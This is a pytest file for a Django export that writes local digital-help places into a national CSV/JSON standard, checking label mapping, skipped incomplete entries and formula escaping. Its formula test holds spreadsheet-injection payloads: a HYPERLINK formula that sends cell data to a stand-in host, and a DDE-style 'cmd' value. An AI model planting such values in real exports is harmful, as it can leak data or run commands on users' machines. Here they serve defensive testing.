"""What goes into the national file: labels of the standard, formula-safe text, incomplete places left out."""

from __future__ import annotations

import csv
import io
import json

import pytest

from maillage.exchange.lieux_export import Skipped, place_row, split_labels
from maillage.exchange.lieux_files import PlacesFile, incomplete
from maillage.exchange.tests.official_schema import csv_errors, json_errors
from maillage.factories import PlaceFactory, StructureFactory
from maillage.network import enums
from maillage.network.models import Place

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Cliquez ici")'


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_full_place_uses_the_standard_labels() -> None:
    place = PlaceFactory(
        phone="+33478000000",
        emails="a@exemple.fr, b@exemple.fr",
        mobility=enums.Mobility.ITINERANT,
        services=[enums.Service.ADMIN_PROCEDURES, enums.Service.DIGITAL_WORLD],
        publics=[enums.Public.FAMILIES],
        specific_support=[enums.SpecificSupport.ENGLISH],
        fees=[enums.Fees.FREE_UNDER_CONDITION],
        programmes=[enums.NationalProgramme.RELAIS_NUMERIQUE],
        access_modes=[enums.AccessMode.NO_PUBLIC],
        support_modes=[enums.SupportMode.REMOTE],
        labels="étapes numériques (La Poste) | Label maison",
        other_labels="Label et la bête",
    )
    row = place_row(place)
    assert not isinstance(row, Skipped)
    assert row["id"] == str(place.uuid)
    assert row["pivot"] == place.structure.pivot
    assert row["telephone"] == "+33478000000"
    assert row["courriels"] == "a@exemple.fr|b@exemple.fr"
    assert row["itinerance"] == "Itinérant"
    assert row["services"] == "Aide aux démarches administratives|Compréhension du monde numérique"
    assert row["prise_en_charge_specifique"] == "Langues étrangères (anglais)"
    assert row["dispositif_programmes_nationaux"] == "Relais numérique (Emmaüs Connect)"
    assert row["formations_labels"] == "Étapes numériques(La Poste)"
    assert row["autres_formations_labels"] == "Label et la bête, Label maison"
    assert csv_errors(PlacesFile(Place.objects.all()).text("csv")) == []
    assert json_errors(json.loads(PlacesFile(Place.objects.all()).text("json"))) == []


def test_labels_outside_the_standard_list_move_to_other_labels() -> None:
    assert split_labels("ORDI 3.0; SUD LABS (PACA); ordi 3.0", "") == ("ORDI 3.0|SUD LABS (PACA)", "")
    assert split_labels("Inconnu", "Autre") == ("", "Autre, Inconnu")


def test_formula_text_is_quoted_in_csv_kept_in_json_and_the_file_stays_valid() -> None:
    PlaceFactory(name=HYPERLINK, address="@SUM(1+1)", summary="-2+3+cmd|' /C calc'!A0", phone="+33478000000")
    csv_text = PlacesFile(Place.objects.all()).text("csv")
    [row] = _csv_rows(csv_text)
    assert row["nom"] == "'" + HYPERLINK
    assert row["adresse"] == "'@SUM(1+1)"
    assert row["presentation_resume"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["telephone"] == "+33478000000"  # digits only: no formula, and the standard's pattern holds
    assert csv_errors(csv_text) == []
    [record] = json.loads(PlacesFile(Place.objects.all()).text("json"))
    assert record["nom"] == HYPERLINK
    assert json_errors([record]) == []


def test_places_the_standard_would_refuse_are_skipped_with_what_to_fill_in() -> None:
    structure = StructureFactory()
    PlaceFactory(structure=structure, name="Complet")
    PlaceFactory(structure=structure, name="Sans adresse", address="  ")
    PlaceFactory(structure=structure, name="Téléphone suisse", phone="+41223456789")
    PlaceFactory(structure=structure, name="Résumé trop long", summary="=" + "x" * 279)

    export = PlacesFile(Place.objects.all())
    text = export.text("csv")
    assert [row["nom"] for row in _csv_rows(text)] == ["Complet"]
    assert csv_errors(text) == []
    assert export.exported == 1
    reasons = {item.place.name: [str(p) for p in item.problems] for item in export.skipped}
    assert reasons == {
        "Sans adresse": ["Adresse : à renseigner."],
        "Téléphone suisse": [
            "Téléphone : « +41223456789 » ne convient pas au standard "
            "(un numéro français au format international, ex. +33478000000)."
        ],
        "Résumé trop long": ["Présentation courte : 279 caractères au plus (280 saisis)."],
    }


def test_only_published_places_are_exported_but_unpublished_ones_are_listed_to_complete() -> None:
    PlaceFactory(name="Publié", summary="Aide aux démarches en ligne.")
    PlaceFactory(name="Brouillon", is_published=False)
    PlaceFactory(name="Brouillon incomplet", is_published=False, address="")
    records = json.loads(PlacesFile(Place.objects.all()).text("json"))
    assert [r["nom"] for r in records] == ["Publié"]
    assert [item.place.name for item in incomplete(Place.objects.all()).items] == ["Brouillon incomplet"]


def test_an_empty_set_gives_a_header_or_an_empty_list() -> None:
    assert _csv_rows(PlacesFile(Place.objects.none()).text("csv")) == []
    assert PlacesFile(Place.objects.none()).text("csv").startswith("id,pivot,nom,")
    assert json.loads(PlacesFile(Place.objects.none()).text("json")) == []
